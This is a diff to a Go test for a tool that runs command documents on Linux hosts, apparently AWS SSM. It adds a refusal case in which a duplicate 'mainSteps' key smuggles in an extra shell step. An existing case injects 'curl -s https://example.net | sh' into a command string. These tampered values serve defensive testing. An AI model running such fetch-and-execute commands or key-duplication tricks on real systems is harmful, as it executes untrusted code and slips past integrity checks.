@@ -113,6 +113,10 @@ func TestDocumentsThatAreRefused(t *testing.T) {
 			d := r.Documents["Countersign-CollectLinux"]
 			d.Content = strings.Replace(d.Content, "ss -tunap", "ss -tunap; curl -s https://example.net | sh", 1)
 		}, kind: "OtherDocument"},
+		"a key that is there twice": {arrange: func(r *standin.Region) {
+			d := r.Documents["Countersign-CollectLinux"]
+			d.Content = strings.Replace(d.Content, `"mainSteps"`, `"mainSteps": [{"action": "aws:runShellScript", "name": "x", "inputs": {"runCommand": ["id"]}}], "mainSteps"`, 1)
+		}, kind: "OtherDocument"},
 		"no such document": {arrange: func(r *standin.Region) { r.Documents = nil }, kind: "InvalidDocument"},
 		"no agent":         {arrange: func(r *standin.Region) { r.Hosts = nil }, kind: "NotManaged"},
 		"not online":       {arrange: func(r *standin.Region) { r.Hosts[standin.SampleInstance].Ping = "ConnectionLost" }, kind: "NotOnline", passing: true},
